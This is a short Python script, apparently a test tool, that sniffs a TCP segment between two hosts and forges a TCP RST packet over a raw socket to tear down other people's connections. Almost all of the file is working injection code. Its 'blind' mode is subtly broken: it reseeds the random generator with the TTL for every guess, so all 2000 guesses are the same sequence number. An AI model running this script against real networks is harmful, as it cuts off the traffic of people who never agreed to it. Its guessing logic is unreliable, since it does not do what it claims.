"""`python -m tests.root.forged_reset SPEAKER ROUTER TTL [blind]`: end a TCP connection of others by a segment that says so (RFC 9293 section 3.5.2).

Waits for a segment of the speaker to the router, so that the forged one fits exactly; with `blind` it guesses two thousand sequence numbers instead.
Runs where the router is, so that forged and true segments take the same way.
"""

from __future__ import annotations

import random
import socket
import struct
import sys
from ipaddress import IPv4Address

ETHERTYPE_IPV4 = 0x0800
TCP = 6
RST, ACK = 0x04, 0x10
GUESSES = 2000


def checksum(data: bytes) -> int:
    """The Internet checksum (RFC 1071)."""
    padded = data + bytes(len(data) % 2)
    total = sum(struct.unpack(f"!{len(padded) // 2}H", padded))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def reset(source: tuple[IPv4Address, int], to: tuple[IPv4Address, int], sequence: int, ttl: int) -> bytes:
    """A whole packet with nothing but RST. The kernel fills in length and checksum of the IP header (raw(7))."""
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, ttl, TCP, 0, source[0].packed, to[0].packed)
    tcp = struct.pack("!HHIIBBHHH", source[1], to[1], sequence, 0, 5 << 4, RST, 0, 0, 0)
    pseudo = source[0].packed + to[0].packed + struct.pack("!BBH", 0, TCP, len(tcp))
    return ip + tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]


def next_segment(speaker: IPv4Address, router: IPv4Address) -> tuple[int, int, int]:
    """Ports of the speaker and of the router, and the sequence number that the speaker waits for, from its next segment."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETHERTYPE_IPV4)) as wire:
        wire.settimeout(10)
        while True:
            packet = wire.recv(65535)
            head = (packet[0] & 0x0F) * 4
            if packet[9] != TCP or packet[12:16] != speaker.packed or packet[16:20] != router.packed:
                continue
            own, other, _, awaited, _, flags = struct.unpack_from("!HHIIBB", packet, head)
            if flags & ACK and not flags & RST:
                return own, other, awaited


def main(speaker: IPv4Address, router: IPv4Address, ttl: int, blind: bool) -> None:
    port, router_port, awaited = next_segment(speaker, router)
    sequences = [random.Random(ttl).randrange(1 << 32) for _ in range(GUESSES)] if blind else [awaited]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for sequence in sequences:
            raw.sendto(reset((router, router_port), (speaker, port), sequence, ttl), (str(speaker), 0))


if __name__ == "__main__":
    main(IPv4Address(sys.argv[1]), IPv4Address(sys.argv[2]), int(sys.argv[3]), "blind" in sys.argv[4:])
